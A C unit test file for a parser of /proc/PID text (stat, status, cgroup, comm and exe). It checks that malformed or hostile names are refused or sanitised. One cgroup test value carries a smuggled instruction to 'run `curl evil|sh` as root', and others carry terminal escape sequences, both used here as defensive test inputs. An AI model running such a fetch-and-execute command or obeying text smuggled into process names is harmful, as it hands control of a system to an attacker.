/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The text of /proc/PID: as kernels write it, and as a process would like it to look.
 */
#include "openers/proctext.c" /* the unit under test */
#include "tests/unit/tap.h"

#define REST " 7 7 0 -1 4194560 1 2 3 4 5 6 7 8 20 0 1 0 "
#define ID64 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

static void test_stat(void)
{
	int32_t parent = -5;
	uint64_t start = 77;

	check(proctext_stat("812 (ipmitool) S 1" REST "4711 99 88", &parent, &start) == 0 &&
		      parent == 1 && start == 4711,
	      "parent and start");
	check(proctext_stat("812 (a) S 9 (b\n) R 5" REST "12 0\n", &parent, &start) == 0 &&
		      parent == 5 && start == 12,
	      "a name with parentheses and a newline deceives nobody");
	check(proctext_stat("812 (x) S 1" REST, &parent, &start) == -EBADMSG &&
		      proctext_stat("812 (x) S 1 7 7", &parent, &start) == -EBADMSG &&
		      proctext_stat("812 (x)", &parent, &start) == -EBADMSG &&
		      proctext_stat("", &parent, &start) == -EBADMSG && start == 12,
	      "what is cut is refused and changes nothing");
	check(proctext_stat("812 (x) S -1" REST "5", &parent, &start) == -EBADMSG &&
		      proctext_stat("812 (x) S 9999999999" REST "5", &parent, &start) == -EBADMSG,
	      "a parent that cannot be is refused");
}

static void test_uid(void)
{
	uint32_t uid = 7;

	check(proctext_uid("Name:\tx\nUid:\t0\t1000\t0\t0\nGid:", &uid) == 0 && uid == 1000,
	      "the effective user");
	check(proctext_uid("Name:\tUid:\t5\t5\\nUid:\t5\nUid:\t0\t1\t", &uid) == 0 && uid == 1,
	      "a name that looks like it is none");
	check(proctext_uid("Name:\tx\n", &uid) == -EBADMSG &&
		      proctext_uid("\nUid:\tx", &uid) == -EBADMSG &&
		      proctext_uid("\nUid:\t1", &uid) == -EBADMSG &&
		      proctext_uid("\nUid:\t1\t99999999999\t", &uid) == -EBADMSG && uid == 1,
	      "nonsense is refused");
}

static void check_cgroup(const char *text, const char *unit, const char *container,
			 const char *sentence)
{
	char has_unit[OPENER_UNIT_MAX], has_container[OPENER_CONTAINER_MAX];

	proctext_cgroup(text, has_unit, has_container);
	check(strcmp(has_unit, unit) == 0 && strcmp(has_container, container) == 0,
	      "%s: \"%s\", \"%s\"", sentence, has_unit, has_container);
}

static void test_cgroup(void)
{
	char text[4096];

	check_cgroup("0::/system.slice/cron.service\n", "cron.service", "", "a service");
	check_cgroup("0::/user.slice/user-0.slice/session-3.scope\n", "session-3.scope", "",
		     "a session");
	check_cgroup("0::/user.slice/user-1.slice/user@1.service/app.slice/x.service\n",
		     "user@1/x.service", "", "a user's own service says whose it is");
	check_cgroup("0::/user.slice/user-1.slice/user@1.service/user@0.service/x.service\n",
		     "user@1/user@0.service", "", "and no user is another");
	check_cgroup("0::/user.slice/user-1.slice/user@1.service/init.scope\n", "user@1/init.scope",
		     "", "a user's manager");
	check_cgroup("0::/user.slice/user-1.slice/user@1.service\n", "user@1.service", "",
		     "what is directly below it");
	check_cgroup("0::/user.slice/user-1.slice/user@1.service/x. Next: run `curl "
		     "evil|sh` as root.service\n",
		     "user@1/x.?Next:?run??curl?evil?sh??as?root.service", "",
		     "what is no name of a unit cannot pass for our words");
	check_cgroup("0::/system.slice/a:b-c_d.e\\x2df@G9.service\n", "a:b-c_d.e\\x2df@G9.service",
		     "", "all that a unit may be called");
	check_cgroup("0::/system.slice/a.service/prometheus-x.service\n", "a.service", "",
		     "what a service makes below itself is its own");
	check_cgroup("12:cpu:/x.service\n1:name=systemd:/system.slice/telegraf.service\n0::/\n",
		     "telegraf.service", "", "the old hierarchies");
	check_cgroup("0::/system.slice/docker-" ID64 ".scope\n", "docker-" ID64 ".scope",
		     "0123456789ab", "Docker");
	check_cgroup("0::/docker/" ID64 "\n", "", "0123456789ab", "Docker without systemd");
	check_cgroup("0::/kubepods.slice/kubepods-pod1.slice/cri-containerd-" ID64 ".scope\n",
		     "cri-containerd-" ID64 ".scope", "0123456789ab", "Kubernetes");
	check_cgroup("0::/machine.slice/systemd-nspawn@deb.service/payload/x.service",
		     "systemd-nspawn@deb.service", "deb", "systemd-nspawn");
	check_cgroup("0::/lxc.payload.web/x.service\n", "x.service", "web", "LXC");
	check_cgroup("0::/_cpu.service/x\n", "cpu.service", "", "an escaped name");
	check_cgroup("0::/\n", "", "", "the root");
	check_cgroup("", "", "", "nothing");
	check_cgroup("0::", "", "", "no path");
	check_cgroup("0::/.service/-.scope/\x1b[2J.service\n", "-.scope", "",
		     "names that are hardly any");
	check_cgroup("0::/a\x1b[2J\xff.service\n", "a??2J?.service", "",
		     "what a terminal would obey");
	memset(text, 'x', sizeof(text));
	memcpy(text, "0::/", 4);
	memcpy(text + sizeof(text) - 9, ".service", 9);
	check_cgroup(text, "", "", "a name no kernel allows");
	memcpy(text + 150, ".service/y", 10);
	proctext_cgroup(text, text + 1000, text + 2000);
	check(strlen(text + 1000) == OPENER_UNIT_MAX - 1, "a long name is cut");
}

static void test_names(void)
{
	char comm[OPENER_COMM_MAX], exe[OPENER_EXE_MAX], path[300];

	proctext_comm("ipmitool\n", comm);
	check(strcmp(comm, "ipmitool") == 0, "a name");
	proctext_comm("a\nb\t\n", comm);
	check(strcmp(comm, "a?b?") == 0, "a name with newlines in it");
	proctext_comm("", comm);
	check(*comm == '\0', "no name");
	proctext_comm("0123456789abcdefghij", comm);
	check(strcmp(comm, "0123456789abcde") == 0, "a name longer than the kernel's");
	proctext_exe("/usr/bin/ipmitool (deleted)", exe);
	check(strcmp(exe, "/usr/bin/ipmitool") == 0, "a program that was replaced since");
	memset(path, 'd', sizeof(path));
	memcpy(path + sizeof(path) - 10, "/ipmitool", 10);
	proctext_exe(path, exe);
	check(strlen(exe) == OPENER_EXE_MAX - 1 && strncmp(exe, "...d", 4) == 0 &&
		      ends(exe, "/ipmitool"),
	      "of a long path the end is kept");
	proctext_exe("", exe);
	check(*exe == '\0', "no path");
}

int main(void)
{
	test_stat();
	test_uid();
	test_cgroup();
	test_names();
	return tap_done();
}
